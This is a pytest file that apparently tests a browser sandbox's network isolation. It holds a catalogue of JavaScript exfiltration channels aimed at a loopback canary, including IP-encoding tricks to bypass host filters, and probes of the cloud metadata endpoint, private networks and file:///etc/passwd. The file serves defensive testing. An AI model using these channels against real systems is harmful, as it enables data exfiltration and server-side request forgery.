"""What a hostile page tries, on both engines: to reach a server that is not allowed, and to read what is not its own.

The canary is the second origin of the loopback site: whatever gets there is a leak, and the server itself says so.
The control opens the same pages without the sandbox and shows that most of these ways lead somewhere.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from urllib.parse import urlsplit

import anyio
import pytest

from bykilt.browser.engine.browser_engine import BrowserEngine, EngineType
from bykilt.browser.engine.launch_context import LaunchContext
from bykilt.browser.engine.loader import EngineLoader
from tests.support.engines import Facts, go, js
from tests.support.site import Site

# `C` is the canary's origin, `H` the same under another name, `P` its port. Each gives a promise, or nothing.
_ELEMENT = "(tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.body.append(e); }"
ROADS = {
    "fetch": "fetch(C + '/hit/leak')",
    "fetch without CORS": "fetch(C + '/hit/leak', { mode: 'no-cors' })",
    "fetch with a body": "fetch(C + '/hit/leak', { method: 'POST', body: 'x', mode: 'no-cors' })",
    "fetch that outlives the page": "fetch(C + '/hit/leak', { keepalive: true, mode: 'no-cors' })",
    "fetch by another name": "fetch(H + '/hit/leak', { mode: 'no-cors' })",
    "fetch of a number": "fetch('http://2130706433:' + P + '/hit/leak', { mode: 'no-cors' })",
    "fetch of a hex address": "fetch('http://0x7f000001:' + P + '/hit/leak', { mode: 'no-cors' })",
    "fetch of a short address": "fetch('http://127.1:' + P + '/hit/leak', { mode: 'no-cors' })",
    "fetch of an octal address": "fetch('http://0177.0.0.1:' + P + '/hit/leak', { mode: 'no-cors' })",
    "fetch of all addresses": "fetch('http://0.0.0.0:' + P + '/hit/leak', { mode: 'no-cors' })",
    "fetch of another loopback": "fetch('http://127.0.0.2:' + P + '/hit/leak', { mode: 'no-cors' })",
    "fetch of IPv6 loopback": "fetch('http://[::1]:' + P + '/hit/leak', { mode: 'no-cors' })",
    "fetch of a mapped address": "fetch('http://[::ffff:127.0.0.1]:' + P + '/hit/leak', { mode: 'no-cors' })",
    "fetch of a name with a dot": "fetch('http://localhost.:' + P + '/hit/leak', { mode: 'no-cors' })",
    "fetch with a user name": "fetch(C.replace('//', '//x:y@') + '/hit/leak', { mode: 'no-cors' })",
    "a redirect": "fetch('/redirect?to=' + encodeURIComponent(C + '/hit/leak'), { mode: 'no-cors' })",
    "XMLHttpRequest": "{ const x = new XMLHttpRequest(); x.open('GET', C + '/hit/leak'); x.send(); }",
    "a beacon": "{ navigator.sendBeacon(C + '/hit/leak', 'x'); }",
    "an image": "{ new Image().src = C + '/hit/leak'; }",
    "a script": "{ make('script', { src: C + '/hit/leak' }); }",
    "a module": "import(C + '/hit/leak')",
    "a style sheet": "{ make('link', { rel: 'stylesheet', href: C + '/hit/leak' }); }",
    "an import in a style": "{ make('style', { textContent: '@import url(' + C + '/hit/leak)' }); }",
    "a background": "{ document.body.style.background = 'url(' + C + '/hit/leak)'; }",
    "a font": "new FontFace('x', 'url(' + C + '/hit/leak)').load()",
    "a video": "{ make('video', { src: C + '/hit/leak', preload: 'auto' }); }",
    "an object": "{ make('object', { data: C + '/hit/leak' }); }",
    "an embed": "{ make('embed', { src: C + '/hit/leak' }); }",
    "a frame": "{ make('iframe', { src: C + '/hit/leak' }); }",
    "a frame that sends itself on": (
        "{ make('iframe', { srcdoc: '<meta http-equiv=refresh content=\"0;url=' + C + '/hit/leak\">' }); }"
    ),
    "a form in a frame": (
        "{ make('iframe', { srcdoc: '<form method=post action=' + C + '/hit/leak></form>'"
        " + '<script>document.forms[0].submit()</' + 'script>' }); }"
    ),
    "a prefetch": "{ make('link', { rel: 'prefetch', href: C + '/hit/leak' }); }",
    "a preload": "{ make('link', { rel: 'preload', as: 'image', href: C + '/hit/leak' }); }",
    "speculation": (
        "{ make('script', { type: 'speculationrules', textContent: JSON.stringify("
        "{ prefetch: [{ source: 'list', urls: [C + '/hit/leak'] }] }) }); }"
    ),
    "an event stream": "{ new EventSource(C + '/hit/leak'); }",
    "a WebSocket": "{ new WebSocket(C.replace('http', 'ws') + '/hit/leak'); }",
    "a worker": (
        "{ new Worker(URL.createObjectURL(new Blob(['fetch(\"' + C + '/hit/leak\", { mode: \"no-cors\" })']))); }"
    ),
    "a window": "{ window.open(C + '/hit/leak'); }",
    "a ping": (
        "{ const a = document.createElement('a'); Object.assign(a, { href: '#', ping: C + '/hit/leak' }); a.click(); }"
    ),
}
# Nothing can be seen at the other end of these: the page itself has to fail.
DEAD_ENDS = {
    "the metadata service": "fetch('http://169.254.169.254/latest/', { mode: 'no-cors' }).then(() => 'reached')",
    "a private network": "fetch('http://10.0.0.1/', { mode: 'no-cors' }).then(() => 'reached')",
    "the proxy itself": "fetch('http://127.0.0.1:3128/', { mode: 'no-cors' }).then(() => 'reached')",
    "a file": "fetch('file:///etc/passwd').then(() => 'reached')",
    "WebTransport": "new WebTransport('https://127.0.0.1:' + P + '/').ready.then(() => 'reached')",
    "a candidate of WebRTC": (
        "(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + P }] });"
        " c.createDataChannel('x'); const found = []; c.onicecandidate = (e) => { if (e.candidate) found.push(e); };"
        " await c.setLocalDescription(await c.createOffer());"
        " await new Promise((r) => { setTimeout(r, 2000); });"
        " return found.length ? 'reached' : 'none'; })()"
    ),
    "USB": "navigator.usb.requestDevice({ filters: [] }).then(() => 'reached')",
    "a serial port": "navigator.serial.requestPort().then(() => 'reached')",
    "a file of the user": "window.showOpenFilePicker().then(() => 'reached')",
}
ADDRESSES = [
    "file:///etc/passwd",
    "file:///",
    "chrome://settings",
    "chrome://downloads",
    "view-source:file:///etc/passwd",
]


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    """Playwright runs on asyncio alone."""
    return "asyncio"


@pytest.fixture(scope="module", params=list(EngineType), ids=str)
def engine_type(request: pytest.FixtureRequest) -> EngineType:
    """The engine of this round."""
    chosen: EngineType = request.param
    return chosen


@pytest.fixture(scope="module")
async def walled(
    engine_type: EngineType, _running_site: Site, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[BrowserEngine]:
    """A browser that may reach the first origin of the site, and nothing else."""
    engine = EngineLoader.load_engine(engine_type, facts=Facts(), artifact_dir=tmp_path_factory.mktemp("walled"))
    await engine.launch(LaunchContext(allowed_hosts=[urlsplit(_running_site.origin).netloc], timeout_ms=10_000))
    yield engine
    await engine.shutdown()


def canary(site: Site, road: str) -> str:
    """Return the script of a road with the canary's addresses in it; it is over when nothing more can come."""
    port = urlsplit(site.other_origin).port
    head = f"const C = '{site.other_origin}', H = '{site.cross_site_origin}', P = '{port}', make = {_ELEMENT};"
    body = road if road.startswith("{") else f"await ({road}).catch(() => 0);"
    # Two requests to the allowed origin, one after the other: what was begun before has left the page by then.
    settle = "for (const n of [1, 2]) await fetch('/hit/settled' + n);"
    return f"(async () => {{ {head} try {{ {body} }} catch {{}} {settle} }})()"


@pytest.mark.parametrize("road", ROADS)
async def test_nothing_gets_to_a_host_that_is_not_allowed(walled: BrowserEngine, site: Site, road: str) -> None:
    """Promise: the server that is not allowed hears nothing; the allowed one is reached all the while."""
    await go(walled, site.url("a.html"))

    await js(walled, canary(site, ROADS[road]))
    await go(walled, site.url("b.html"))

    assert site.hits("/hit/settled2") == 1
    assert site.hits("/hit/leak") == 0


@pytest.mark.parametrize("road", DEAD_ENDS)
async def test_what_a_page_may_not_have_fails_inside_the_page(walled: BrowserEngine, site: Site, road: str) -> None:
    """Promise: nothing is reached, and the page goes on."""
    await go(walled, site.url("a.html"))
    port = urlsplit(site.other_origin).port

    attempt = f"try {{ return await ({DEAD_ENDS[road]}); }} catch (error) {{ return error.name; }}"
    tried = f"(async () => {{ const P = {port}; {attempt} }})()"
    with anyio.fail_after(8):
        assert await js(walled, tried) != "reached"

    assert await js(walled, "1 + 1") == 2


@pytest.mark.parametrize("address", ADDRESSES)
async def test_no_flow_gets_to_files_or_to_the_browsers_own_pages(
    walled: BrowserEngine, site: Site, address: str
) -> None:
    """Promise: not even when a step asks for it by name."""
    await go(walled, site.url("a.html"))

    result = await walled.dispatch({"type": "navigate", "url": address, "timeout_ms": 5_000})

    assert not result.success


async def test_most_of_these_roads_lead_somewhere_without_the_sandbox(
    engine_type: EngineType, site: Site, tmp_path: Path
) -> None:
    """Control: the same pages, and a canary that hears them; so the tests above can fail."""
    engine = EngineLoader.load_engine(engine_type, artifact_dir=tmp_path)
    reached: list[str] = []
    async with engine:
        await engine.launch(LaunchContext(sandbox_mode=False, timeout_ms=10_000))
        for name, road in ROADS.items():
            site.forget()
            await go(engine, site.url("a.html"))
            await js(engine, canary(site, road))
            if site.hits("/hit/leak"):
                reached.append(name)
        files = await engine.dispatch({"type": "navigate", "url": "file:///etc/passwd"})
    assert len(reached) >= 25, sorted(ROADS.keys() - set(reached))
    assert files.success
